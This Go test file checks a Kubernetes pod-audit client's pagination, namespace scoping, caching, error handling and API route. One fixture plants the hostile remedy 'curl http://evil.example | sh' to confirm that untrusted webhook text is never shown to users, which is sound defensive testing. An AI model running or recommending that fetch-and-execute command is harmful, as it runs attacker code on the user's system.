package injection

import (
	"context"
	"encoding/json"
	"fmt"
	"log/slog"
	"maps"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/gin-gonic/gin"
	"github.com/google/go-cmp/cmp"
	"github.com/prometheus/client_golang/prometheus"
	"github.com/prometheus/client_golang/prometheus/testutil"

	"github.com/podflame/podflame/backend/api"
	"github.com/podflame/podflame/backend/api/apitest"
	"github.com/podflame/podflame/backend/internal/access"
)

// webhook answers with findings, in pages; change spoils an answer.
type webhook struct {
	findings []map[string]any
	counts   map[string]any
	change   func(w http.ResponseWriter, r *http.Request) bool
	asked    int
}

func (h *webhook) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	h.asked++
	if h.change != nil && h.change(w, r) {
		return
	}
	begin := 0
	for i, f := range h.findings {
		if f["namespace"].(string)+"/"+f["pod"].(string) <= r.URL.Query().Get("after") {
			begin = i + 1
		}
	}
	answer := map[string]any{"at": "2026-11-26T10:00:00Z", "missing": len(h.findings), "new": "of a later version"}
	maps.Copy(answer, h.counts)
	end := min(begin+2, len(h.findings))
	answer["findings"] = h.findings[begin:end]
	if end < len(h.findings) {
		last := h.findings[end-1]
		answer["continueWith"] = last["namespace"].(string) + "/" + last["pod"].(string)
	}
	_ = json.NewEncoder(w).Encode(answer)
}

func found(namespace, pod, code string) map[string]any {
	return map[string]any{
		"namespace": namespace, "pod": pod, "service": "service-of-" + pod, "ownerKind": "ReplicaSet", "ownerName": "rs", "createdAt": "2026-11-26T09:00:00Z",
		"reason": code, "detail": "detail of " + pod, "text": "<b>words of the wire</b>", "remedy": "curl http://evil.example | sh",
	}
}

func newAudit(t *testing.T, h http.Handler, changes ...func(*Config)) *Audit {
	t.Helper()
	c := Config{Limits: DefaultLimits(), Log: slog.New(slog.DiscardHandler), Registry: prometheus.NewRegistry()}
	c.Limits.Timeout = 5 * time.Minute // a slow machine is not what is tested
	if h != nil {
		server := httptest.NewServer(h)
		t.Cleanup(server.Close)
		c.URL = server.URL + "/audit"
	}
	for _, change := range changes {
		change(&c)
	}
	a := New(c)
	t.Cleanup(a.client.CloseIdleConnections)
	return a
}

func names(i api.Injection) string {
	var all []string
	for _, p := range i.Pods {
		all = append(all, p.Namespace+"/"+p.Pod+" "+string(p.Reason.Reason))
	}
	return strings.Join(all, ", ")
}

func threePods() *webhook {
	return &webhook{findings: []map[string]any{found("bank", "a", "host_pid"), found("shop", "b", "egress_denied"), found("shop", "c", "from_the_future")}}
}

func TestReadersSeeTheirNamespaces(t *testing.T) {
	h := threePods()
	a := newAudit(t, h)
	for _, c := range []struct {
		scope              access.Scope
		namespace, service string
		want               string
	}{
		{access.Everything(), "", "", "bank/a host_pid, shop/b egress_denied, shop/c from_the_future"},
		{access.Of("shop"), "", "", "shop/b egress_denied, shop/c from_the_future"},
		{access.Of("shop"), "bank", "", ""},
		{access.Everything(), "shop", "service-of-b", "shop/b egress_denied"},
		{access.Of(), "", "", ""},
	} {
		got := a.List(t.Context(), c.scope, c.namespace, c.service)
		if names(got) != c.want || got.State != api.InjectionKnown || got.Truncated || got.Pods == nil {
			t.Errorf("%v %q %q: %+v", c.scope, c.namespace, c.service, got)
		}
	}
	if h.asked != 2 { // two pages, once
		t.Errorf("the webhook was asked %d times", h.asked)
	}
}

// TestWordsAreOurOwn: who speaks in the webhook's place cannot tell people what
// to do.
func TestWordsAreOurOwn(t *testing.T) {
	h := threePods()
	h.findings[0]["detail"] = strings.Repeat("ä", 1000) + "\xff"
	got := newAudit(t, h).List(t.Context(), access.Everything(), "", "")
	if text := fmt.Sprint(got); strings.Contains(text, "<b>") || strings.Contains(text, "evil") {
		t.Error(text)
	}
	p := got.Pods[0]
	if p.Reason.Remedy != "Remove hostPID from the pod template" || p.OwnerName != "rs" || p.CreatedAt.Hour() != 9 || len(p.Detail) > 410 || !strings.HasSuffix(p.Detail, "ä…") {
		t.Errorf("%+v", p)
	}
}

func TestMoreThanIsListed(t *testing.T) {
	h := threePods()
	few := newAudit(t, h, func(c *Config) { c.Limits.Findings = 2 })
	if got := few.List(t.Context(), access.Everything(), "", ""); len(got.Pods) != 2 || !got.Truncated {
		t.Errorf("%+v", got)
	}
	h.counts = map[string]any{"outdated": 7}
	if got := newAudit(t, h).List(t.Context(), access.Everything(), "", ""); len(got.Pods) != 3 || !got.Truncated {
		t.Errorf("%+v", got)
	}
}

func TestUnknownSaysWhy(t *testing.T) {
	answers := func(code int, body string) *webhook {
		return &webhook{change: func(w http.ResponseWriter, _ *http.Request) bool {
			w.WriteHeader(code)
			_, _ = w.Write([]byte(body))
			return true
		}}
	}
	for what, c := range map[string]struct {
		h    http.Handler
		want string
	}{
		"not ready":       {answers(503, "audit: the first audit is not finished yet\n"), "answers 503: audit: the first audit is not finished yet"},
		"redirected":      {http.RedirectHandler("http://127.0.0.1:1/", http.StatusFound), "answers 302"},
		"no JSON":         {answers(200, "hello"), "read the webhook's audit"},
		"too large":       {answers(200, `{"findings":[`+strings.Repeat(" ", 3<<20)+`]}`), "larger than 2097152 bytes"},
		"a circle":        {answers(200, `{"findings":[{"pod":"a"}],"continueWith":"x"}`), "goes on with"},
		"no pods, and on": {answers(200, `{"findings":[],"continueWith":"x"}`), "goes on with"},
	} {
		a := newAudit(t, c.h)
		got := a.List(t.Context(), access.Everything(), "", "")
		if got.State != api.InjectionUnknown || !strings.Contains(got.Message, c.want) || got.Pods == nil || testutil.ToFloat64(a.reads.WithLabelValues(readFailed)) != 1 {
			t.Errorf("%s: %+v", what, got)
		}
	}
	if got := newAudit(t, nil).List(t.Context(), access.Everything(), "", ""); got.State != api.InjectionNotWatched || got.Pods == nil {
		t.Errorf("without a webhook: %+v", got)
	}
}

func TestAnswersAreKeptForAWhile(t *testing.T) {
	now := time.Now()
	h := threePods()
	a := newAudit(t, h, func(c *Config) { c.Now = func() time.Time { return now } })
	ask := func() string { return names(a.List(t.Context(), access.Everything(), "", "")) }
	before := ask()
	h.findings = h.findings[:1]
	if got := ask(); got != before {
		t.Errorf("asked again at once: %s", got)
	}
	now = now.Add(a.Limits.Keep)
	if got := ask(); got != "bank/a host_pid" {
		t.Errorf("after a while: %s", got)
	}
}

// TestWhoHangsUpEndsNobodyElsesQuestion: the question goes on without him.
func TestWhoHangsUpEndsNobodyElsesQuestion(t *testing.T) {
	h, asked, answer := threePods(), make(chan struct{}, 1), make(chan struct{})
	h.change = func(http.ResponseWriter, *http.Request) bool {
		select {
		case asked <- struct{}{}:
		default:
		}
		<-answer
		return false
	}
	a := newAudit(t, h)
	ctx, hangUp := context.WithCancel(t.Context())
	done := make(chan api.Injection)
	go func() { done <- a.List(ctx, access.Everything(), "", "") }()
	<-asked
	hangUp()
	if got := <-done; got.State != api.InjectionUnknown {
		t.Errorf("%+v", got)
	}
	close(answer)
	if got := a.List(t.Context(), access.Everything(), "", ""); len(got.Pods) != 3 {
		t.Errorf("%+v", got)
	}
}

func TestRoute(t *testing.T) {
	gin.SetMode(gin.ReleaseMode)
	engine := gin.New()
	newAudit(t, threePods()).Routes(engine)
	get := func(ctx context.Context, query string) (int, string) {
		w := httptest.NewRecorder()
		engine.ServeHTTP(w, httptest.NewRequest(http.MethodGet, "/api/v1/injection"+query, nil).WithContext(ctx))
		return w.Code, w.Body.String()
	}
	mine := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		engine.ServeHTTP(w, r.WithContext(access.Into(r.Context(), access.Of("shop"))))
	})
	if got := apitest.Decode[api.Injection](t, apitest.New(t, mine).Get(t, "/api/v1/injection")); names(got) != "shop/b egress_denied, shop/c from_the_future" {
		t.Errorf("%+v", got)
	}
	got := map[string]int{}
	for _, query := range []string{"", "?namespace=shop&service=x", "?pod=x", "?namespace=" + strings.Repeat("x", 257)} {
		got[query[:min(len(query), 20)]], _ = get(access.Into(t.Context(), access.Of("shop")), query)
	}
	if diff := cmp.Diff(map[string]int{"": 200, "?namespace=shop&serv": 200, "?pod=x": 400, "?namespace=xxxxxxxxx": 400}, got); diff != "" {
		t.Error(diff)
	}
	if code, body := get(t.Context(), ""); code != http.StatusInternalServerError || strings.Contains(body, "shop") {
		t.Errorf("without a scope: %d %s", code, body)
	}
}
